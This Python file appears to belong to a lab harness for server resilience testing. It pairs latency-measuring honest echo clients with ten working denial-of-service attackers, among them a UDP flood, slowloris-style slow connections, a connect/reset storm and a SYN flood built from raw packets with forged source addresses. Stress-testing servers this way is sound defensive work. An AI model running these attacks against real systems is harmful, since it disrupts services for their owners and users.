"""Who is at the server: honest clients, and others. This file is run on a client host, by `python3 -c`.

    ... honest udp|kept|new HOST PORT SECONDS N    one exchange every 10 ms, each answer compared; N stretches
    ... flood|connections|... HOST PORT [NUMBER]   until a line comes on standard input

An attacker writes `ready` when its attack is in force. Both write what they have counted as one JSON object
in the end. It needs what the client's image has: the standard library, and `lab`.
"""

import errno
import json
import random
import select
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from itertools import pairwise
from socket import (
    AF_INET,
    INADDR_ANY,
    IPPROTO_RAW,
    IPPROTO_TCP,
    SO_LINGER,
    SOCK_DGRAM,
    SOCK_RAW,
    SOCK_STREAM,
    SOL_SOCKET,
    TCP_NODELAY,
    gethostbyname,
    inet_aton,
    socket,
)
from statistics import median
from typing import Any

from lab.slots import Slots

Address = tuple[str, int]
Figures = dict[str, Any]

PAUSE_S = 0.01  # of an honest client, between two questions
LOST_S = 0.25  # an answer over UDP that is so late counts as lost
STUCK_S = 5.0  # the same over TCP, where nothing may be lost
BATCH = 64  # datagrams a system call
LINE = b"to be or not to be, that is the question\n"
LARGEST = 65_507  # bytes of data in an IPv4 datagram
NEW_PER_S = 400  # connections of a class: 24,000 ports of 28,232 are kept by the system then
FORGED = 8  # addresses that nobody has: each costs the server's system a question on the wire, no more


def told_to_stop(within_s: float = 0.0) -> bool:
    """Return whether somebody has written a line to us, or has gone."""
    return bool(select.select([0], [], [], within_s)[0])


def ready() -> None:
    """Say that the attack is in force."""
    print("ready", flush=True)


# --- honest clients


def honest(kind: str, server: Address, seconds: float, stretches: int) -> Figures:
    """Ask, compare the answer, pause; and so on for so long.

    Args:
        kind: udp, kept or new.
        server: whom.
        seconds: how long.
        stretches: the answers are cut into so many, one after the other, each with a median of its own;
            fewer where there are not so many answers.
    """
    waited_s: list[float] = []
    counted: Counter[str] = Counter()
    kept: socket | None = None
    until_s = time.monotonic() + seconds
    while time.monotonic() < until_s:
        question = b"question %d\n" % counted["asked"]
        counted["asked"] += 1
        begun_s = time.monotonic()
        try:
            if kind == "udp":
                answer = over_udp(server, question)
            elif kind == "kept":
                kept = kept or connected(server)
                answer = over_tcp(kept, question)
            else:
                with connected(server) as sock:
                    answer = over_tcp(sock, question)
        except OSError as error:
            counted[f"error {errno.errorcode.get(error.errno or 0, type(error).__name__)}"] += 1
            kept = None
        else:
            counted["answered" if answer == question.upper() else "wrong"] += 1
            waited_s.append(time.monotonic() - begun_s)
        time.sleep(PAUSE_S)
    if kept is not None:
        kept.close()
    return (
        {"asked": 0, "answered": 0, "wrong": 0}
        | counted
        | {
            "median_ms": round(median(waited_s) * 1e3, 3) if waited_s else None,
            "p95_ms": round(sorted(waited_s)[int(len(waited_s) * 0.95)] * 1e3, 3) if waited_s else None,
            "stretches_ms": [round(median(each) * 1e3, 3) for each in cut(waited_s, stretches)],
        }
    )


def cut(values: list[float], number: int) -> list[list[float]]:
    """Return values in so many pieces, one after the other, as equal as can be and none of them empty."""
    ends = [len(values) * n // number for n in range(number + 1)]
    return [values[begin:end] for begin, end in pairwise(ends) if begin < end]


def over_udp(server: Address, question: bytes) -> bytes:
    """Ask over UDP, from a socket of its own, so that no late answer is taken for this one's."""
    with socket(AF_INET, SOCK_DGRAM) as sock:
        sock.settimeout(LOST_S)
        sock.sendto(question, server)
        return sock.recv(LARGEST)


def connected(server: Address) -> socket:
    """Return a connection."""
    sock = socket(AF_INET, SOCK_STREAM)
    try:
        sock.settimeout(STUCK_S)
        sock.setsockopt(IPPROTO_TCP, TCP_NODELAY, 1)
        sock.connect(server)
    except BaseException:
        sock.close()
        raise
    return sock


def over_tcp(sock: socket, question: bytes) -> bytes:
    """Ask over TCP."""
    sock.sendall(question)
    answer = b""
    while len(answer) < len(question):
        piece = sock.recv(4096)
        if not piece:
            raise ConnectionResetError(errno.ECONNRESET, "closed")
        answer += piece
    return answer


# --- attackers


def flood(server: Address, size: int) -> Figures:
    """Send datagrams as fast as this host can, and read no answer."""
    slots = Slots(BATCH, max(size, 64) + 192, 0)
    for i in range(BATCH):
        start = i * slots.size
        slots.buffer[start : start + size] = (LINE * (size // len(LINE) + 1))[:size]
        slots.room[i] = size
    sent = refused = calls = 0
    with socket(AF_INET, SOCK_DGRAM) as sock:
        sock.connect(server)
        ready()
        while calls % 64 or not told_to_stop():
            calls += 1
            count = slots.send(sock.fileno(), 0, BATCH)
            if count > 0:
                sent += count
            else:
                refused += 1
    return {"sent": sent, "refused": refused}


def oversize(server: Address, number: int) -> Figures:
    """Send the longest datagrams there are, so many a second; every second one grows in upper case."""
    plain, grows = b"a" * LARGEST, ("ß" * (LARGEST // 2)).encode()
    return paced(server, number, lambda i: grows if i % 2 else plain)


def junk(server: Address, number: int) -> Figures:
    """Send what looks like questions to a name server, cut and spoilt, so many a second."""
    chance = random.Random(1)  # noqa: S311 - it is to repeat

    def question(_i: int) -> bytes:
        labels = b"".join(
            bytes((chance.choice((len(word), chance.randrange(256))),)) + word
            for word in (chance.randbytes(chance.randrange(1, 64)) for _ in range(chance.randrange(1, 12)))
        )
        header = struct.pack("!6H", *(chance.randrange(65_536) for _ in range(6)))
        return (header + labels + b"\x00\x00\xff\x00\x01")[: chance.randrange(0, 700)]

    return paced(server, number, question)


def paced(server: Address, number: int, datagram: Callable[[int], bytes]) -> Figures:
    """Send datagrams, so many a second."""
    sent = refused = size = 0
    with socket(AF_INET, SOCK_DGRAM) as sock:
        sock.connect(server)
        ready()
        begun_s = time.monotonic()
        while not told_to_stop(0.005):
            while sent + refused < (time.monotonic() - begun_s) * number:
                data = datagram(sent)
                try:
                    size += sock.send(data)
                    sent += 1
                except OSError:
                    refused += 1
    return {"sent": sent, "bytes": size, "refused": refused}


def connections(server: Address, number: int) -> Figures:
    """Have so many connections, each answered once; then hold them."""
    counted: Counter[str] = Counter()
    held = []
    for _ in range(number):
        try:
            sock = connected(server)
            held.append(sock)
            answer = over_tcp(sock, b"here\n")
        except OSError as error:
            counted[errno.errorcode.get(error.errno or 0, type(error).__name__)] += 1
        else:
            counted[
                "answered" if answer == b"HERE\n" else "refused" if answer[:6] == b"error:" else "wrong"
            ] += 1
    ready()
    while not told_to_stop(1.0):
        pass
    for sock in held:
        with suppress(OSError):
            kept = over_tcp(sock, b"still here\n") == b"STILL HERE\n"
            counted["answered again"] += kept
        sock.close()
    return {"answered": 0, "refused": 0, "wrong": 0, "answered again": 0} | counted


def slow_writers(server: Address, number: int) -> Figures:
    """Send a byte a second on each of so many connections."""
    sentence = LINE * 100
    held = [connected(server) for _ in range(number)]
    heard = [b""] * number
    ready()
    turn = 0
    while not told_to_stop(1.0):
        for i, sock in enumerate(held):
            sock.sendall(sentence[turn : turn + 1])
            heard[i] += sock.recv(64)
        turn += 1
    for sock in held:
        sock.close()
    return {"bytes each": turn, "right": sum(sentence[:turn].upper() == one for one in heard)}


def slow_readers(server: Address, number: int) -> Figures:
    """Send all that the server takes on each of so many connections, and read a byte a second."""
    held = [connected(server) for _ in range(number)]
    sentence = LINE * 100
    for sock in held:
        sock.setblocking(False)
    sent = [0] * number

    def push() -> None:
        for i, sock in enumerate(held):
            with suppress(BlockingIOError):
                while True:
                    offset = sent[i] % len(LINE)
                    sent[i] += sock.send(sentence[offset:])

    push()
    ready()
    turn = right = 0
    while not told_to_stop(1.0):
        right += sum(sock.recv(1) == LINE.upper()[turn % len(LINE) :][:1] for sock in held)
        turn += 1
        push()
    for sock in held:
        sock.close()
    return {"bytes sent": sum(sent), "bytes read": turn * number, "right": right}


def endless(server: Address, number: int) -> Figures:
    """Send a line without an end on each of so many connections, as fast as it is answered, and read it."""
    held = [connected(server) for _ in range(number)]
    piece = b"x" * 65_536
    sent = heard = wrong = 0
    watched = select.epoll()
    by_fd = {sock.fileno(): sock for sock in held}
    for fd, sock in by_fd.items():
        sock.setblocking(False)
        watched.register(fd, select.EPOLLIN | select.EPOLLOUT)
    ready()
    while not told_to_stop():
        for fd, events in watched.poll(0.1):
            with suppress(BlockingIOError):
                if events & select.EPOLLIN:
                    answer = by_fd[fd].recv(262_144)
                    heard += len(answer)
                    wrong += len(answer) - answer.count(b"X")
                if events & select.EPOLLOUT:
                    sent += by_fd[fd].send(piece)
    for sock in held:
        sock.close()
    return {"bytes sent": sent, "bytes heard": heard, "wrong": wrong}


def storm(server: Address, number: int) -> Figures:
    """Connect and close as fast as it goes, so many at a time; every second one by a reset."""
    counted: Counter[str] = Counter()
    reset = struct.pack("ii", 1, 0)
    ready()
    while not told_to_stop():
        some = []
        for i in range(number):
            sock = socket(AF_INET, SOCK_STREAM)
            if i % 2:
                sock.setsockopt(SOL_SOCKET, SO_LINGER, reset)
            sock.setblocking(False)
            code = sock.connect_ex(server)
            counted["begun" if code in {0, errno.EINPROGRESS} else errno.errorcode[code]] += 1
            some.append(sock)
        _r, writable, _x = select.select([], some, [], 0.2)
        counted["made"] += sum(sock.getsockopt(SOL_SOCKET, 4) == 0 for sock in writable)  # SO_ERROR
        for sock in some:
            sock.close()
    return {"begun": 0, "made": 0} | counted


def half_open(server: Address, number: int) -> Figures:
    """Ask for so many connections a second in the name of hosts that do not exist: none is completed."""
    chance = random.Random(1)  # noqa: S311
    network = server[0].rpartition(".")[0]
    sent = refused = 0
    with socket(AF_INET, SOCK_RAW, IPPROTO_RAW) as sock:
        ready()
        begun_s = time.monotonic()
        while not told_to_stop(0.005):
            while sent + refused < (time.monotonic() - begun_s) * number:
                source = f"{network}.{254 - chance.randrange(FORGED)}"
                try:
                    sock.sendto(
                        syn(source, server, chance.randrange(1024, 65_536), chance.getrandbits(32)), server
                    )
                    sent += 1
                except OSError:
                    refused += 1
    return {"sent": sent, "refused": refused}


def syn(source: str, server: Address, port: int, sequence: int) -> bytes:
    """Return a packet that asks for a connection (RFC 9293, section 3.1). The system adds IP's checksum."""
    ends = inet_aton(source) + inet_aton(server[0])
    offset_flags = (5 << 12) | 0x002  # five words, SYN
    tcp = struct.pack("!HHIIHHHH", port, server[1], sequence, INADDR_ANY, offset_flags, 65_535, 0, 0)
    total = sum(struct.unpack("!16H", ends + struct.pack("!HH", IPPROTO_TCP, len(tcp)) + tcp))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    tcp = tcp[:16] + struct.pack("!H", ~total & 0xFFFF) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, IPPROTO_TCP, 0) + ends + tcp


def steady(server: Address, number: int) -> Figures:
    """Be a class that works: so many clients of each kind, each asks again as soon as it is answered.

    But for those who connect anew each time: their host would have no port left for the next minute, in
    which the system keeps each (TIME-WAIT).
    """
    counted: Counter[str] = Counter()
    watched = select.epoll()
    lines: dict[int, tuple[str, socket, bytes, float]] = {}

    def ask(kind: str, sock: socket | None) -> None:
        question = b"soak %d\n" % counted["asked"]
        counted["asked"] += 1
        if sock is None:
            sock = socket(AF_INET, SOCK_DGRAM) if kind == "udp" else connected(server)
            sock.connect(server) if kind == "udp" else None
            watched.register(sock.fileno(), select.EPOLLIN)
        sock.send(question)
        lines[sock.fileno()] = (kind, sock, question, time.monotonic())

    for _ in range(number):
        for kind in ("udp", "kept", "new"):
            ask(kind, None)
    ready()
    begun_s = looked_s = time.monotonic()
    connected_anew = waiting = 0
    while not told_to_stop():
        for fd, _events in watched.poll(0.005):
            kind, sock, question, _asked_s = lines.pop(fd)
            counted[kind if sock.recv(4096) == question.upper() else "wrong"] += 1
            if kind == "new":
                sock.close()
                waiting += 1
            else:
                ask(kind, sock)
        while waiting and connected_anew < (time.monotonic() - begun_s) * NEW_PER_S:
            ask("new", None)
            waiting -= 1
            connected_anew += 1
        if time.monotonic() > looked_s + LOST_S:  # UDP may lose
            looked_s = time.monotonic()
            for fd, (kind, sock, _question, asked_s) in list(lines.items()):
                if kind == "udp" and looked_s - asked_s > LOST_S:
                    counted["lost"] += 1
                    del lines[fd]
                    sock.close()  # or an answer that is late would be taken for the next one's
                    ask(kind, None)
    for _kind, sock, _question, _asked_s in lines.values():
        sock.close()
    return {"asked": 0, "udp": 0, "kept": 0, "new": 0, "lost": 0, "wrong": 0} | counted


ATTACKERS: dict[str, Callable[[Address, int], Figures]] = {
    "flood": flood, "oversize": oversize, "junk": junk, "connections": connections, "endless": endless,
    "slow_writers": slow_writers, "slow_readers": slow_readers, "storm": storm, "half_open": half_open,
    "steady": steady,
}  # fmt: skip


def main() -> None:
    """Do as the arguments say."""
    name, *rest = sys.argv[1:]
    if name == "honest":
        kind, host, port, seconds, stretches = rest
        figures = honest(kind, (gethostbyname(host), int(port)), float(seconds), int(stretches))
    else:
        host, port, number = rest
        figures = ATTACKERS[name]((gethostbyname(host), int(port)), int(number))
    print(json.dumps(figures), flush=True)


if __name__ == "__main__":
    main()
